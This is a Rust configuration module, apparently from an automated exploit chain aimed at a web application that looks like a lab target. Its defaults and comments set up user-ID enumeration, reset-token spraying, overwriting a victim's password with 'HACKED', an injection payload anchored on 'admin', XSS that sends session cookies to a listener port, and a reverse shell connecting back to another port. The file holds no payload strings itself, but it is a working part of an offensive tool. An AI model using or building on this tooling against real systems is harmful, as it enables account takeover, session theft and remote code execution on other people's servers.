use std::time::Duration;
use serde::{Deserialize, Serialize};
use crate::errors::ChainError;

/// Tunables for one exploit run. Every bound the chain relies on lives here
/// so it can be validated once before any request is sent.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(default)]
pub struct ChainConfig {
    /// Password written over the victim account.
    pub new_password: String,
    pub request_timeout_secs: u64,
    pub trigger_timeout_secs: u64,
    /// Exclusive upper bound of the linear UID search.
    pub uid_search_bound: u32,
    pub token_length: usize,
    /// Port the XSS payload exfiltrates cookies to.
    pub xss_port: u16,
    /// Port the reverse shell connects back to.
    pub shell_port: u16,
    pub trigger_delay_ms: u64,
    pub settle_delay_ms: u64,
    pub continue_on_bypass_failure: bool,
    /// Existing username the injection payload is anchored on.
    pub injection_anchor: String,
    pub session_cookie: String,
    pub spray_tokens: Vec<String>,
    pub markers: Markers,
}

impl Default for ChainConfig {
    fn default() -> Self {
        Self {
            new_password: "HACKED".to_string(),
            request_timeout_secs: 10,
            trigger_timeout_secs: 5,
            uid_search_bound: 1000,
            token_length: 32,
            xss_port: 9000,
            shell_port: 9001,
            trigger_delay_ms: 2000,
            settle_delay_ms: 3000,
            continue_on_bypass_failure: false,
            injection_anchor: "admin".to_string(),
            session_cookie: "PHPSESSID".to_string(),
            spray_tokens: default_spray_tokens(),
            markers: Markers::default(),
        }
    }
}

fn default_spray_tokens() -> Vec<String> {
    vec![
        "0".repeat(32),
        "1".repeat(32),
        "a".repeat(32),
        "0123456789abcdef".repeat(2),
        "token123".repeat(4),
    ]
}

/// Response substrings the target application prints on success.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(default)]
pub struct Markers {
    pub user_exists: String,
    pub email_sent: String,
    pub password_changed: String,
    pub login: Vec<String>,
    pub motd_login: String,
    pub profile_saved: String,
    pub motd_set: String,
    pub upload_saved: String,
}

impl Default for Markers {
    fn default() -> Self {
        Self {
            user_exists: "User exists!".to_string(),
            email_sent: "Email sent!".to_string(),
            password_changed: "Password changed!".to_string(),
            login: vec![
                "Welcome".to_string(),
                "Hello".to_string(),
                "Logout".to_string(),
                "Dashboard".to_string(),
                "[MoTD]".to_string(),
            ],
            motd_login: "[MoTD]".to_string(),
            profile_saved: "Success".to_string(),
            motd_set: "Message set!".to_string(),
            upload_saved: "Success".to_string(),
        }
    }
}

impl Markers {
    fn all_single(&self) -> [(&'static str, &str); 7] {
        [
            ("user_exists", self.user_exists.as_str()),
            ("email_sent", self.email_sent.as_str()),
            ("password_changed", self.password_changed.as_str()),
            ("motd_login", self.motd_login.as_str()),
            ("profile_saved", self.profile_saved.as_str()),
            ("motd_set", self.motd_set.as_str()),
            ("upload_saved", self.upload_saved.as_str()),
        ]
    }
}

impl ChainConfig {
    pub fn request_timeout(&self) -> Duration {
        Duration::from_secs(self.request_timeout_secs)
    }

    pub fn trigger_timeout(&self) -> Duration {
        Duration::from_secs(self.trigger_timeout_secs)
    }

    pub fn trigger_delay(&self) -> Duration {
        Duration::from_millis(self.trigger_delay_ms)
    }

    pub fn settle_delay(&self) -> Duration {
        Duration::from_millis(self.settle_delay_ms)
    }

    pub fn validate(&self) -> Result<(), ChainError> {
        if self.new_password.is_empty() {
            return Err(ChainError::Config("new_password must not be empty".into()));
        }
        if self.request_timeout_secs == 0 || self.trigger_timeout_secs == 0 {
            return Err(ChainError::Config("timeouts must be at least one second".into()));
        }
        if self.uid_search_bound == 0 {
            return Err(ChainError::Config("uid_search_bound must be at least 1".into()));
        }
        if self.token_length == 0 || self.token_length > 256 {
            return Err(ChainError::Config(format!(
                "token_length must be between 1 and 256, got {}",
                self.token_length
            )));
        }
        if self.xss_port == 0 || self.shell_port == 0 {
            return Err(ChainError::Config("listener ports must be non-zero".into()));
        }
        if self.xss_port == self.shell_port {
            return Err(ChainError::Config(format!(
                "xss_port and shell_port must differ (both {})",
                self.xss_port
            )));
        }
        if self.injection_anchor.is_empty() || self.session_cookie.is_empty() {
            return Err(ChainError::Config(
                "injection_anchor and session_cookie must not be empty".into(),
            ));
        }
        if self.spray_tokens.is_empty() {
            return Err(ChainError::Config("spray_tokens must contain at least one token".into()));
        }
        for (name, marker) in self.markers.all_single() {
            if marker.is_empty() {
                return Err(ChainError::Config(format!("marker '{}' must not be empty", name)));
            }
        }
        if self.markers.login.iter().all(|m| m.is_empty()) {
            return Err(ChainError::Config("at least one login marker is required".into()));
        }
        Ok(())
    }
}
